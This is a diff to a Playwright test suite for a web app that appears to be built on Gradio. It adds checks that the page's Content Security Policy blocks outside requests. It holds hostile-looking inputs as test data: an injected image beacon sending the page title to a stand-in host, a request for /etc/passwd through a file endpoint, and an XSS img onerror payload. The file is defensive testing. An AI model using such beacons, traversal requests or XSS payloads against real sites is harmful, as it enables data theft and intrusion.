@@ -48,10 +48,11 @@ def page(server: Served, browser: Browser) -> Iterator[Page]:
 
 
 def opened(server: Served, browser: Browser, **options: object) -> Iterator[Page]:
-    """The page, whole; whatever it asks of others than its server is an error."""
+    """The page, whole; what it asks of others than its server, and what its policy blocks, is an error."""
     context = browser.new_context(accept_downloads=True, **options)
     context.set_default_timeout(PATIENCE)
     elsewhere: list[str] = []
+    blocked: list[str] = []
 
     def only_here(route: Route, request: Request) -> None:
         if request.url.startswith((server.url, "data:", "blob:")):
@@ -62,11 +63,12 @@ def opened(server: Served, browser: Browser, **options: object) -> Iterator[Page
 
     context.route("**/*", only_here)
     page = context.new_page()
+    page.on("console", lambda message: "Content Security" in message.text and blocked.append(message.text))
     page.goto(server.url)
     expect(page.locator("#find")).to_be_enabled()
     yield page
     context.close()
-    assert elsewhere == []
+    assert elsewhere == blocked == []
 
 
 def ask(page: Page, *sentences: str, picture: bytes | None = None) -> None:
@@ -143,6 +145,31 @@ def test_what_is_typed_stays_text(page: Page):
     ask(page, "the <img src=x onerror=alert(1)> ring")
     expect(page.locator("table.findings tbody th")).to_have_text("the <img src=x onerror=alert(1)> ring")
     assert page.locator("table.findings img").count() == 0
+
+
+def test_nothing_is_sent_or_loaded_from_elsewhere_whatever_gets_into_the_page(
+    server: Served, browser: Browser
+):
+    page = browser.new_page()
+    page.goto(server.url)
+    with page.expect_console_message(lambda message: "Content Security" in message.text):
+        page.evaluate("new Image().src = 'https://elsewhere.example/?' + document.title")
+    assert (
+        page.evaluate("fetch('https://elsewhere.example').catch(error => error.message)") == "Failed to fetch"
+    )
+    page.close()
+
+
+def test_beside_the_page_programs_get_the_errors_they_know(server: Served):
+    with server.client() as client:
+        for answer, status in (
+            (client.get("/nothing"), 404),
+            (client.delete("/v1/segment"), 404),
+            (client.post("/"), 405),
+            (client.get("/gradio_api/file=/etc/passwd"), 403),
+        ):
+            assert answer.status_code == status
+            assert answer.json().keys() == {"error", "detail", "hint"}
 
 
 def test_what_is_wrong_is_told(page: Page):
